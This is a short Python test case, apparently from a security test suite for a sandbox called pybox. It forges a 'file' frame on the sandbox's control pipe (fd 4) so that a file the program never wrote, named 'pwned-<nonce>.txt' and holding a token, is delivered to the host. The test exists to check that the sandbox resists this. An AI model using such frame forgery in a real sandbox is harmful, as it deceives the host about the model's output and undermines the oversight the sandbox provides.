# id: proto-forge-file-frame
# category: protocol
# description: write a file frame on the control pipe (fd 4) for a file that was never written
# source: pybox guest protocol: fd 4, 4-byte big-endian length + JSON, a file's raw bytes after its frame
# detect: token (a forged file with the token is delivered)
import json
import os
import struct


def frame(obj, fd=4):
    data = json.dumps(obj).encode() if not isinstance(obj, bytes) else obj
    os.write(fd, struct.pack('>I', len(data)) + data)

data = TOKEN.encode()
frame({'t': 'file', 'path': 'pwned-%s.txt' % NONCE, 'size': len(data)})
os.write(4, data)
